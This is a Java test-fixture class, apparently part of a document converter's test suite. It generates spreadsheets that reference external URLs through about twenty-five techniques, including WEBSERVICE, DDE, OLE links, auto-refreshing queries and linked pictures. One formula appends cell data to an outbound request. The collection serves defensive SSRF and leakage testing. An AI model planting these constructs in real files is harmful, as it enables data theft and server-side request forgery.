package io.docmill.testing.documents;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.function.BiConsumer;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;

/** What an xlsx or xls may name of other places. The names of elements are those of ECMA-376. */
final class SheetInclusions {
    private static final String WORKBOOK = "xl/workbook.xml";
    private static final String MAIN = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
            + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
    private static final String SPREADSHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.";

    static final List<Inclusion> ALL = List.of(
            formula("xlsx-webservice", "txt", "_xlfn.WEBSERVICE(\"%s\")"),
            formula("xlsx-webservice-of-concatenation", "txt", "_xlfn.WEBSERVICE(CONCATENATE(\"%s\",\"?q=\",A1))"),
            formula("xlsx-image-function", "svg", "_xlfn.IMAGE(\"%s\")"),
            formula("xlsx-hyperlink-function", "html", "HYPERLINK(\"%s\",\"x\")"),
            formula("xlsx-indirect", "xlsx", "INDIRECT(\"'%s'#$Sheet1.A1\")"),
            formula("xlsx-indirect-as-excel", "xlsx", "INDIRECT(\"'[%s]Sheet1'!A1\")"),
            formula("xlsx-reference-in-place", "xlsx", "'[%s]Sheet1'!A1"),
            formula("xlsx-dde-function", "txt", "DDE(\"soffice\",\"%s\",\"a1\")"),
            formula("xlsx-rtd-function", "txt", "RTD(\"soffice\",\"%s\",\"a1\")"),
            sheet(
                    "xlsx-external-workbook",
                    "xlsx",
                    (parts, url) -> external(parts, url, """
                    <externalBook r:id="link"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>""").edit("</sheetData>", cell("[1]Sheet1!A1"))),
            sheet(
                    "xlsx-external-name",
                    "xlsx",
                    (parts, url) -> external(parts, url, """
                    <externalBook r:id="link"><sheetNames><sheetName val="Sheet1"/></sheetNames><definedNames><definedName
                    name="canary" refersTo="=Sheet1!$A$1"/></definedNames></externalBook>""").edit("</sheetData>", cell("[1]!canary"))),
            sheet(
                    "xlsx-dde-link",
                    "xlsx",
                    (parts, url) -> external(parts, url, """
                    <ddeLink ddeService="soffice" ddeTopic="%s"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink>""".formatted(url)).edit("</sheetData>", cell("[1]!A1"))),
            sheet(
                    "xlsx-ole-link",
                    "docx",
                    (parts, url) -> external(parts, url, """
                    <oleLink r:id="link" progId="Word.Document.12"><oleItems><oleItem name="'" advise="1"/></oleItems></oleLink>""")
                            .add(
                                    "<oleObjects><oleObject progId=\"Word.Document.12\" link=\"[1]!''''\" oleUpdate=\"OLEUPDATE_ALWAYS\""
                                            + " shapeId=\"1025\"/></oleObjects>")),
            sheet(
                    "xlsx-ole-moniker",
                    "docx",
                    (parts, url) -> parts.part(
                                    "xl/embeddings/object.bin",
                                    "application/vnd.openxmlformats-officedocument.oleObject",
                                    OleObjects.linked(url))
                            .inside("object", "oleObject", "../embeddings/object.bin")
                            .add(
                                    "<oleObjects><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"object\"/></oleObjects>")),
            sheet("xlsx-web-query", "html", (parts, url) -> connection(parts, """
                    <connection id="1" name="c" type="4" refreshedVersion="3" background="1" refreshOnLoad="1" saveData="1"><webPr
                    sourceData="1" parsePre="1" consecutive="1" xl2000="1" url="%s" htmlTables="1"/></connection>""".formatted(url))),
            sheet("xlsx-text-query", "csv", (parts, url) -> connection(parts, """
                    <connection id="1" name="c" type="6" refreshedVersion="3" background="1" refreshOnLoad="1" saveData="1"><textPr
                    codePage="65001" sourceFile="%s" comma="1"><textFields><textField/></textFields></textPr></connection>""".formatted(url))),
            sheet("xlsx-database-query", "xlsx", (parts, url) -> connection(parts, """
                    <connection id="1" name="c" type="5" refreshedVersion="3" refreshOnLoad="1" sourceFile="%1$s" odcFile="%1$s"><dbPr
                    connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=%1$s" command="Sheet1$" commandType="3"/></connection>""".formatted(url))),
            sheet(
                    "xlsx-xml-map",
                    "html",
                    (parts, url) -> parts.inside(WORKBOOK, "maps", "xmlMaps", "xmlMaps.xml")
                            .part("xl/xmlMaps.xml", "application/xml", """
                            <MapInfo %s SelectionNamespaces=""><Schema ID="S1" SchemaRef="%2$s"/><Map ID="1" Name="m" RootElement="html"
                            SchemaID="S1" ShowImportExportValidationErrors="0" AutoFit="1" Append="0" PreserveSortAFLayout="1"
                            PreserveFormat="1"><DataBinding FileBinding="true" DataBindingLoadMode="1" DataBindingName="%2$s"/>
                            </Map></MapInfo>""".formatted(MAIN, url))),
            sheet("xlsx-pivot-cache", "xlsx", SheetInclusions::pivot),
            sheet(
                    "xlsx-background-picture",
                    "svg",
                    (parts, url) -> parts.link("image", url).add("<picture r:id=\"link\"/>")),
            sheet("xlsx-vml-comment-fill", "svg", SheetInclusions::comment),
            drawing(
                    "xlsx-linked-picture",
                    "<xdr:pic><xdr:nvPicPr><xdr:cNvPr id=\"1\" name=\"p\"/><xdr:cNvPicPr/></xdr:nvPicPr>"
                            + "<xdr:blipFill><a:blip r:link=\"link\"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr>"
                            + "<a:prstGeom prst=\"rect\"/></xdr:spPr></xdr:pic>"),
            drawing(
                    "xlsx-shape-fill",
                    "<xdr:sp><xdr:nvSpPr><xdr:cNvPr id=\"1\" name=\"s\"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr>"
                            + "<a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"5000000\" cy=\"500000\"/></a:xfrm><a:prstGeom prst=\"rect\"/>"
                            + "<a:blipFill><a:blip r:link=\"link\"/><a:stretch/></a:blipFill></xdr:spPr></xdr:sp>"),
            sheet("xlsx-chart-data", "xlsx", SheetInclusions::chart),
            new Inclusion("xls-external-workbook", "xls", "xlsx", SheetInclusions::xls));

    private SheetInclusions() {}

    private static Inclusion sheet(String technique, String type, BiConsumer<HostileParts, String> edit) {
        return Inclusion.ofParts(technique, "xlsx", type, HostileParts::sheet, edit);
    }

    private static Inclusion formula(String technique, String type, String formula) {
        return sheet(technique, type, (parts, url) -> parts.edit("</sheetData>", cell(formula.formatted(url))));
    }

    static String cell(String formula) {
        return "<row r=\"2\"><c r=\"A2\" t=\"str\"><f>" + formula + "</f><v>old</v></c></row></sheetData>";
    }

    private static HostileParts external(HostileParts parts, String url, String link) {
        String name = "externalLinks/externalLink1.xml";
        return parts.inside(WORKBOOK, "external", "externalLink", name)
                .part(
                        "xl/" + name,
                        SPREADSHEET_TYPE + "externalLink+xml",
                        "<externalLink " + MAIN + ">" + link + "</externalLink>")
                .link("xl/" + name, "externalLinkPath", url)
                .edit(
                        WORKBOOK,
                        "</workbook>",
                        "<externalReferences><externalReference r:id=\"external\"/></externalReferences></workbook>");
    }

    private static void connection(HostileParts parts, String connection) {
        parts.inside(WORKBOOK, "connections", "connections", "connections.xml")
                .part(
                        "xl/connections.xml",
                        SPREADSHEET_TYPE + "connections+xml",
                        "<connections " + MAIN + ">" + connection + "</connections>")
                .inside("query", "queryTable", "../queryTables/queryTable1.xml")
                .part("xl/queryTables/queryTable1.xml", SPREADSHEET_TYPE + "queryTable+xml", """
                        <queryTable %s name="canary" refreshOnLoad="1" connectionId="1" autoFormatId="16"/>""".formatted(MAIN))
                .edit(
                        WORKBOOK,
                        "</workbook>",
                        "<definedNames><definedName name=\"canary\" localSheetId=\"0\">Sheet1!$B$2:$C$9</definedName></definedNames></workbook>");
    }

    private static void pivot(HostileParts parts, String url) {
        String name = "pivotCache/pivotCacheDefinition1.xml";
        parts.inside(WORKBOOK, "pivot", "pivotCacheDefinition", name)
                .part("xl/" + name, SPREADSHEET_TYPE + "pivotCacheDefinition+xml", """
                        <pivotCacheDefinition %s refreshOnLoad="1" saveData="0"><cacheSource type="worksheet"><worksheetSource ref="A1:A2"
                        sheet="Sheet1" r:id="link"/></cacheSource><cacheFields count="1"><cacheField name="a"/></cacheFields>
                        </pivotCacheDefinition>""".formatted(MAIN))
                .link("xl/" + name, "externalLinkPath", url)
                .edit(
                        WORKBOOK,
                        "</workbook>",
                        "<pivotCaches><pivotCache cacheId=\"1\" r:id=\"pivot\"/></pivotCaches></workbook>");
    }

    private static void comment(HostileParts parts, String url) {
        parts.inside("vml", "vmlDrawing", "../drawings/vmlDrawing1.vml")
                .part(
                        "xl/drawings/vmlDrawing1.vml",
                        "application/vnd.openxmlformats-officedocument.vmlDrawing",
                        """
                        <xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
                        xmlns:x="urn:schemas-microsoft-com:office:excel"><v:rect id="s" style="width:500pt;height:50pt"><v:fill
                        src="%1$s" o:href="%1$s" o:relid="link" type="frame"/><v:imagedata o:relid="link" src="%1$s"/></v:rect></xml>""".formatted(url))
                .link("xl/drawings/vmlDrawing1.vml", "image", url)
                .add("<legacyDrawing r:id=\"vml\"/><legacyDrawingHF r:id=\"vml\"/>");
    }

    private static Inclusion drawing(String technique, String shape) {
        return sheet(
                technique, "svg", (parts, url) -> drawing(parts, shape).link("xl/drawings/drawing1.xml", "image", url));
    }

    private static HostileParts drawing(HostileParts parts, String shape) {
        return parts.inside("drawing", "drawing", "../drawings/drawing1.xml")
                .part(
                        "xl/drawings/drawing1.xml",
                        "application/vnd.openxmlformats-officedocument.drawing+xml",
                        """
                        <xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
                        xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"
                        xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><xdr:twoCellAnchor><xdr:from>
                        <xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to>
                        <xdr:col>7</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>%s
                        <xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>""".formatted(shape))
                .add("<drawing r:id=\"drawing\"/>");
    }

    private static void chart(HostileParts parts, String url) {
        drawing(parts, """
                <xdr:graphicFrame><xdr:nvGraphicFramePr><xdr:cNvPr id="1" name="c"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>
                <xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData
                uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart
                xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="chart"/></a:graphicData></a:graphic>
                </xdr:graphicFrame>""")
                .inside("xl/drawings/drawing1.xml", "chart", "chart", "../charts/chart1.xml")
                .part("xl/charts/chart1.xml", Charts.CONTENT_TYPE, Charts.withExternalData())
                .link("xl/charts/chart1.xml", "oleObject", url);
    }

    /** A workbook with a picture that lies elsewhere, to be put into other documents. */
    static byte[] linkedPicture(String url) {
        return ALL.stream()
                .filter(inclusion -> inclusion.technique().equals("xlsx-linked-picture"))
                .findFirst()
                .orElseThrow()
                .document()
                .write(url);
    }

    private static byte[] xls(String url) {
        try (var workbook = new HSSFWorkbook();
                var other = new HSSFWorkbook();
                var bytes = new ByteArrayOutputStream()) {
            other.createSheet("Sheet1").createRow(0).createCell(0).setCellValue("old");
            workbook.linkExternalWorkbook(url, other);
            var cell = workbook.createSheet("Sheet1").createRow(0).createCell(0);
            cell.setCellFormula("'[" + url + "]Sheet1'!A1");
            workbook.write(bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
